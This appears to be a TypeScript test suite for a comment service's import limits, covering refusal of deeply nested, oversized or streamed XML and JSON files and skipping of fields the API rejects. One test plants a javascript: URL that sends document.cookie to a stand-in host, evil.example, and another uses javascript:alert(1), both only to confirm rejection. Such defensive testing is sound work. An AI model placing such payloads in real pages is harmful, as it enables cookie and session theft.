import { ChildProcess, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { Client } from 'pg';
import { startBuiltService, startProdFlags } from './support/built-service';
import { Api } from './support/comments-helpers';
import { expectProblem, expectStatus, until } from './support/expect';
import { finishedJob, runImportCli } from './support/imports';
import { freePort } from './support/postgres-servers';
import { createTestApp, createTestDatabase, signToken, TestApp } from './support/test-app';

/** What one import file may hold: refusals with their line and column, and a service that lives through them. */

const HEADER = JSON.stringify({ type: 'header', format: 'comment-desk', version: 1 });
/** Unset: each limit at its default. */
const DEFAULT_LIMITS = { IMPORT_MAX_DEPTH: '', IMPORT_MAX_TEXT: '', IMPORT_MAX_LINE: '', IMPORT_MAX_RECORD: '' };
const DISQUS_START = '<?xml version="1.0" encoding="utf-8"?>\n<disqus>';

const count = async (t: TestApp, table: string) =>
  Number((await t.db.query(`SELECT count(*) AS n FROM ${table}`)).rows[0].n);

/** Uploads `body` through the admin API and waits for its job to finish. */
async function importText(t: TestApp, body: string, format: string, contentType = 'application/xml') {
  const res = await t
    .http()
    .post('/api/admin/imports')
    .query({ format })
    .set('Authorization', `Bearer ${t.token('limits-admin', 'admin')}`)
    .set('Content-Type', contentType)
    .send(body);
  return finishedJob(t, t.token('limits-admin', 'admin'), expectStatus(res, 202).id);
}

describe('import limits', () => {
  describe('each limit, made small, refuses the file past it: the job fails, naming the line and column', () => {
    let t: TestApp;

    beforeAll(async () => {
      t = await createTestApp({
        IMPORT_MAX_DEPTH: '20',
        IMPORT_MAX_TEXT: '1000',
        IMPORT_MAX_LINE: '2000',
        IMPORT_MAX_RECORD: '3000',
      });
    });
    afterAll(() => t.close());

    afterEach(async () => {
      // Nothing of a refused file stays, and the service goes on answering.
      expect(await count(t, 'comments')).toBe(0);
      expect(await count(t, 'import_staged_comments')).toBe(0);
      expectStatus(await t.http().get('/api/health'), 200);
    });

    it('XML nested deeper than the limit', async () => {
      const job = await importText(t, `${DISQUS_START}${'<a>'.repeat(30)}${'</a>'.repeat(30)}</disqus>`, 'disqus');
      expect(job.status).toBe('failed');
      // The 20th <a>, the 21st element, ends on column 8 + 20 * 3.
      expect(job.error).toBe('line 2, column 68: more than 20 elements deep');
    });

    it('an XML text node longer than the limit, also when it spans many pieces of the file', async () => {
      const post = '<post dsq:id="1"><message>';
      for (const length of [1001, 100_000]) {
        const job = await importText(
          t,
          `${DISQUS_START}${post}${'x'.repeat(length)}</message></post></disqus>`,
          'disqus',
        );
        expect(job.status).toBe('failed');
        // Where the text begins: after <disqus> and the post's two tags.
        expect(job.error).toBe(
          `line 2, column ${8 + post.length + 1}: more than 1,000 characters in one text node, name or attribute`,
        );
      }
    });

    it('an XML attribute value longer than the limit, too many attributes, and open elements holding too much', async () => {
      const long = await importText(t, `${DISQUS_START}<post dsq:id="${'1'.repeat(50_000)}"/></disqus>`, 'disqus');
      expect(long.status).toBe('failed');
      expect(long.error).toBe('line 2, column 9: more than 1,000 characters in one text node, name or attribute');

      const attributes = Array.from({ length: 101 }, (_, i) => `a${i}="x"`).join(' ');
      const many = await importText(t, `${DISQUS_START}<post ${attributes}/></disqus>`, 'disqus');
      expect(many.status).toBe('failed');
      expect(many.error).toBe('line 2, column 9: more than 100 attributes on one element');

      // Each <a> holds 300 characters while open, <disqus> 6: the 10th <a> passes 3,000.
      const open = `<a b="${'c'.repeat(298)}">`;
      const held = await importText(t, `${DISQUS_START}${open.repeat(12)}${'</a>'.repeat(12)}</disqus>`, 'disqus');
      expect(held.status).toBe('failed');
      expect(held.error).toBe(
        `line 2, column ${8 + 10 * open.length}: more than 3,000 characters in the names and attributes of the open elements`,
      );
    });

    it('a Disqus post, or a WordPress comment, whose fields together pass the record limit', async () => {
      const field = 'y'.repeat(900);
      const disqus = await importText(
        t,
        `${DISQUS_START}\n<post dsq:id="1">\n<message>${field}</message><createdAt>${field}</createdAt>\n` +
          `<author><name>${field}</name><username>${field}</username></author></post></disqus>`,
        'disqus',
      );
      expect(disqus.status).toBe('failed');
      expect(disqus.error).toMatch(/^line 5, column \d+: more than 3,000 characters in one record$/);

      const wordpress = await importText(
        t,
        `<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>T</title>\n` +
          `<wp:comment><wp:comment_id>1</wp:comment_id>${`<wp:comment_content>${field}</wp:comment_content>`.repeat(4)}` +
          `</wp:comment></item></channel></rss>`,
        'wordpress',
      );
      expect(wordpress.status).toBe('failed');
      expect(wordpress.error).toMatch(/^line 2, column \d+: more than 3,000 characters in one record$/);
    });

    it('an NDJSON line longer than the limit, before it is held whole', async () => {
      for (const format of ['comment-desk', 'remark42']) {
        const first = format === 'comment-desk' ? HEADER : '{"version":1,"posts":[]}';
        const job = await importText(t, `${first}\n${'x'.repeat(50_000)}\n`, format, 'application/x-ndjson');
        expect(job.status).toBe('failed');
        expect(job.error).toBe('line 2, column 2001: more than 2,000 characters on one line');
      }
    });

    it('an NDJSON line nested deeper than the limit, before it is parsed', async () => {
      const line = `{"type":"comment","data":{"a":${'['.repeat(30)}${']'.repeat(30)}}}`;
      const job = await importText(t, `${HEADER}\n${line}\n`, 'comment-desk', 'application/x-ndjson');
      expect(job.status).toBe('failed');
      // {, { and 18 [ make 20 levels; the next [ is the 49th character.
      expect(job.error).toBe('line 2, column 49: more than 20 arrays and objects deep');
    });

    it('Commento: nested too deep, a string too long, and a record (anything held) too long', async () => {
      const deep = await importText(
        t,
        `{"version":1,"comments":[${'['.repeat(30)}${']'.repeat(30)}]}`,
        'commento',
        'application/json',
      );
      expect(deep.status).toBe('failed');
      expect(deep.error).toBe('line 1, column 44: more than 20 arrays and objects deep');

      const long = await importText(
        t,
        `{"version":1,"comments":[{"commentHex":"${'x'.repeat(100_000)}"}]}`,
        'commento',
        'application/json',
      );
      expect(long.status).toBe('failed');
      expect(long.error).toMatch(/^line 1, column \d+: more than 1,000 characters in one string or number$/);

      const held = await importText(
        t,
        `{"version":1,"other":[${Array(2000).fill('1').join(',')}],"comments":[]}`,
        'commento',
        'application/json',
      );
      expect(held.status).toBe('failed');
      expect(held.error).toMatch(/^line 1, column \d+: more than 3,000 characters in one record$/);
    });

    it('the command line refuses the same way, and exits 1', async () => {
      const dir = join(tmpdir(), `comment-desk-limits-${process.pid}`);
      mkdirSync(dir, { recursive: true });
      const file = join(dir, 'deep.xml');
      writeFileSync(file, `${DISQUS_START}${'<a>'.repeat(30)}${'</a>'.repeat(30)}</disqus>`);
      try {
        const cli = await runImportCli(t, ['--format', 'disqus', file]);
        expect(cli.code).toBe(1);
        expect(cli.stderr).toMatch(/deep\.xml failed: line 2, column 68: more than 20 elements deep\n$/);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  describe('an import meets the API rules for every field it brings', () => {
    let source: TestApp;
    let target: TestApp;

    beforeAll(async () => {
      // With the default limits (process.env keeps what the apps above were given).
      source = await createTestApp(DEFAULT_LIMITS);
      target = await createTestApp(DEFAULT_LIMITS);
    });
    afterAll(async () => {
      await source.close();
      await target.close();
    });

    it('skips what the API would refuse: a javascript: article URL, a body with a NUL character', async () => {
      const api = new Api(source);
      const mod = source.token('rules-mod', 'moderator');
      const admin = source.token('rules-admin', 'admin');
      const bad = await api.createArticle(mod, { url: 'https://news.example/to-be-made-javascript' });
      const good = await api.createArticle(mod, { url: 'https://news.example/kept' });
      await api.comment(source.token('rules-reader'), bad.id, 'On the article whose URL goes bad');
      await api.comment(source.token('rules-reader'), good.id, 'Kept');
      await api.comment(source.token('rules-reader'), good.id, 'Its body will hold a NUL');
      const exported = (await source.http().get('/api/admin/export').set('Authorization', `Bearer ${admin}`)).text;
      const hostile = 'javascript:fetch(`//evil.example/${document.cookie}`)';
      const file = exported
        .replace('https://news.example/to-be-made-javascript', hostile)
        .replace('Its body will hold a NUL', 'Its body \\u0000 holds a NUL');
      expect(file).toContain(hostile);

      // The create route refuses that URL...
      expectProblem(
        await target
          .http()
          .post('/api/articles')
          .set('Authorization', `Bearer ${target.token('rules-mod', 'moderator')}`)
          .send({ url: hostile, title: 'x' }),
        400,
        'VALIDATION_FAILED',
      );
      // ...and so does the import.
      const job = await importText(target, file, 'comment-desk', 'application/x-ndjson');
      expect(job.status).toBe('succeeded');
      const lines = file.split('\n');
      const lineOf = (text: string) => lines.findIndex((l) => l.includes(text)) + 1;
      expect(job.problems).toEqual([
        { line: lineOf(hostile), message: `article ${bad.id} is skipped: url: url must be an http or https URL` },
        {
          line: lineOf('Its body \\u0000'),
          message: expect.stringMatching(
            /^comment [0-9a-f-]{36} is skipped: body: body must be text without NUL characters or lone surrogates$/,
          ),
        },
      ]);
      expect(job.counts.threads).toMatchObject({ read: 2, articlesCreated: 1 });
      expect(job.counts.comments).toMatchObject({
        read: 3,
        imported: 1,
        skipped: expect.objectContaining({ invalid: 1, threadSkipped: 1 }),
      });
      const { rows } = await target.db.query(`SELECT url FROM articles`);
      expect(rows).toEqual([{ url: 'https://news.example/kept' }]);
    });

    it('a Disqus thread whose link is not an http(s) URL is skipped, as the API would refuse it', async () => {
      const job = await importText(
        target,
        `${DISQUS_START}<thread dsq:id="t1"><link>javascript:alert(1)</link><title>T</title></thread>` +
          `<post dsq:id="p1"><thread dsq:id="t1"/><message>Hello</message><createdAt>2020-01-01T00:00:00Z</createdAt>` +
          `<author><username>u</username></author></post></disqus>`,
        'disqus',
      );
      expect(job.status).toBe('succeeded');
      expect(job.counts.threads).toMatchObject({ read: 1, skippedNoUrl: 1, articlesCreated: 0 });
      expect(job.counts.comments.skipped.threadSkipped).toBe(1);
      expect((await target.db.query(`SELECT 1 FROM articles WHERE url LIKE 'javascript:%'`)).rowCount).toBe(0);
    });

    it('a body whose HTML is too long to be one the API takes is skipped, not converted', async () => {
      const job = await importText(
        target,
        `${DISQUS_START}<thread dsq:id="t2"><link>https://news.example/long</link></thread>` +
          `<post dsq:id="p2"><thread dsq:id="t2"/><message><![CDATA[${'<i>ab</i> '.repeat(100_001)}]]></message>` +
          `<createdAt>2020-01-01T00:00:00Z</createdAt><author><username>u</username></author></post></disqus>`,
        'disqus',
      );
      expect(job).toMatchObject({ status: 'succeeded', error: null });
      expect(job.counts.comments.skipped.invalid).toBe(1);
      expect(job.problems).toEqual([
        { line: 2, message: 'comment p2 is skipped: body: body must be shorter than or equal to 100000 characters' },
      ]);
    });
  });

  describe('the built service under its production heap cap', () => {
    let dbUrl: string;
    let db: Client;
    let port: number;
    let child: ChildProcess | undefined;
    /** Rejects when the service dies, saying how. */
    let died: Promise<never>;
    let service: ReturnType<typeof startBuiltService>;
    /** The service's temporary folder: its own, so that no other process on the machine sweeps it. */
    let serviceTmp: string;
    let deadFolder: string;
    let interruptedJob: string;
    const admin = signToken('heap-admin', 'admin');

    beforeAll(async () => {
      dbUrl = await createTestDatabase();
      db = new Client({ connectionString: dbUrl });
      await db.connect();
      // What a process that died leaves: its job still reading, and its upload folder.
      interruptedJob = (
        await db.query(
          `INSERT INTO import_jobs (format, file_name, status) VALUES ('disqus', 'died.xml', 'reading') RETURNING id`,
        )
      ).rows[0].id;
      const dead = spawn(process.execPath, ['-e', '0']);
      await new Promise((resolve) => dead.once('exit', resolve));
      serviceTmp = mkdtempSync(join(tmpdir(), 'comment-desk-limits-tmp-'));
      deadFolder = join(serviceTmp, `comment-desk-import-${dead.pid}-test`);
      mkdirSync(deadFolder);
      writeFileSync(join(deadFolder, 'upload'), '<disqus>');
      writeFileSync(join(deadFolder, 'job'), interruptedJob);

      port = await freePort();
      const flags = startProdFlags();
      expect(flags).toContain('--max-old-space-size=160');
      service = startBuiltService(dbUrl, port, {
        flags,
        env: { NODE_ENV: 'production', ...DEFAULT_LIMITS, TMPDIR: serviceTmp },
      });
      child = service.child;
      died = service.exited.then(({ code, signal }) => {
        throw new Error(`the service died (${code ?? signal}): ${service.output().slice(-1000)}`);
      });
      died.catch(() => undefined);
      await until('the service answers', 30_000, async () => (await health()).status === 200);
    }, 60_000);
    afterAll(async () => {
      if (child && child.exitCode === null && child.signalCode === null) {
        const exited = new Promise((resolve) => child!.once('exit', resolve));
        child.kill('SIGTERM');
        let timer: NodeJS.Timeout | undefined;
        const stopped = await Promise.race([
          exited,
          new Promise((r) => (timer = setTimeout(() => r('not stopped'), 10_000))),
        ]);
        clearTimeout(timer);
        if (stopped === 'not stopped') {
          child.kill('SIGKILL');
          await exited;
        }
      }
      rmSync(serviceTmp, { recursive: true, force: true });
      await db.end();
    }, 30_000);

    function health(): Promise<{ status: number; ms: number }> {
      const started = Date.now();
      return fetch(`http://127.0.0.1:${port}/api/health`, { signal: AbortSignal.timeout(3000) }).then(
        (res) => ({ status: res.status, ms: Date.now() - started }),
        () => ({ status: 0, ms: Date.now() - started }),
      );
    }

    it('marks failed, at boot, the job of a process that died on this machine, and removes its folder', async () => {
      const job = await until('the interrupted job is failed', 10_000, async () => {
        const { rows } = await db.query(`SELECT status, error FROM import_jobs WHERE id = $1`, [interruptedJob]);
        return rows[0].status === 'failed' ? rows[0] : undefined;
      });
      expect(job.error).toBe('interrupted: the process running it stopped');
      expect(existsSync(deadFolder)).toBe(false);
    });

    /** Streams `file` as an import, waits for its job, and checks /api/health every 100 ms meanwhile. */
    async function importWhileWatchingHealth(query: string, contentType: string, file: () => Iterable<string>) {
      const checks: { status: number; ms: number }[] = [];
      let done = false;
      const polling = (async () => {
        while (!done) {
          checks.push(await health());
          await new Promise((r) => setTimeout(r, 100));
        }
      })();
      try {
        const started = await new Promise<{ status: number; body: any }>((resolve, reject) => {
          const req = httpRequest(
            {
              host: '127.0.0.1',
              port,
              method: 'POST',
              path: `/api/admin/imports?${query}`,
              headers: { Authorization: `Bearer ${admin}`, 'Content-Type': contentType },
            },
            (res) => {
              let text = '';
              res.on('data', (c) => (text += c));
              res.on('end', () => resolve({ status: res.statusCode!, body: JSON.parse(text) }));
            },
          );
          req.on('error', reject);
          Readable.from(file()).pipe(req);
        });
        expect(started.status).toBe(202);
        const finished = until('the job finishes', 60_000, async () => {
          const res = await fetch(`http://127.0.0.1:${port}/api/admin/imports/${started.body.id}`, {
            headers: { Authorization: `Bearer ${admin}` },
          });
          const body = await res.json();
          return ['succeeded', 'failed'].includes(body.status) ? body : undefined;
        });
        const job = await Promise.race([finished, died]);
        // Its upload folder is gone with it.
        await until('the upload folder is removed', 5_000, () =>
          readdirSync(serviceTmp).every((name) => !name.startsWith(`comment-desk-import-${child!.pid}-`)),
        );
        return { started: started.body, job };
      } finally {
        done = true;
        await polling;
        expect(child!.exitCode).toBeNull();
        expect(service.output()).not.toMatch(/heap/i);
        expect(checks.length).toBeGreaterThan(0);
        expect(checks.filter((c) => c.status !== 200)).toEqual([]);
        expect(Math.max(...checks.map((c) => c.ms))).toBeLessThan(2000);
        expect((await health()).status).toBe(200);
      }
    }

    /** `size` characters of `unit`, in pieces of a megabyte or so. */
    function* repeated(unit: string, size: number) {
      const piece = unit.repeat(Math.ceil(2 ** 20 / unit.length));
      for (let sent = 0; sent < size; sent += piece.length) yield piece;
    }

    it('refuses a 4.2 MB Disqus file of 600,000 nested elements, streamed, answering /api/health throughout', async () => {
      const depth = 600_000;
      const { started, job } = await importWhileWatchingHealth(
        'format=disqus&fileName=deep.xml',
        'application/xml',
        function* () {
          yield DISQUS_START;
          for (let i = 0; i < depth; i += 10_000) yield '<a>'.repeat(10_000);
          for (let i = 0; i < depth; i += 10_000) yield '</a>'.repeat(10_000);
          yield '</disqus>';
        },
      );
      expect(started.bytesTotal).toBeGreaterThan(4_000_000);
      expect(job.status).toBe('failed');
      expect(job.error).toBe('line 2, column 3008: more than 1,000 elements deep');
    }, 90_000);

    it('refuses a Disqus file whose one <message> is 200 MB, answering /api/health throughout', async () => {
      const post = '<post dsq:id="1"><message>';
      const { started, job } = await importWhileWatchingHealth(
        'format=disqus&fileName=long.xml',
        'application/xml',
        function* () {
          yield `${DISQUS_START}${post}`;
          yield* repeated('x', 200 * 2 ** 20);
          yield '</message></post></disqus>';
        },
      );
      expect(started.bytesTotal).toBeGreaterThan(200 * 2 ** 20);
      expect(job.status).toBe('failed');
      expect(job.error).toMatch(
        new RegExp(`^line 2, column ${8 + post.length + 1}: more than 4,194,304 characters in one text node`),
      );
    }, 90_000);

    it('refuses a comment-desk file whose one line is 200 MB, answering /api/health throughout', async () => {
      const { started, job } = await importWhileWatchingHealth(
        'format=comment-desk&fileName=long.ndjson',
        'application/x-ndjson',
        function* () {
          yield `${HEADER}\n{"type":"comment","data":{"body":"`;
          yield* repeated('x', 200 * 2 ** 20);
          yield '"}}\n';
        },
      );
      expect(started.bytesTotal).toBeGreaterThan(200 * 2 ** 20);
      expect(job.status).toBe('failed');
      expect(job.error).toMatch(/^line 2, column 4194305: more than 4,194,304 characters on one line$/);
    }, 90_000);
  });
});
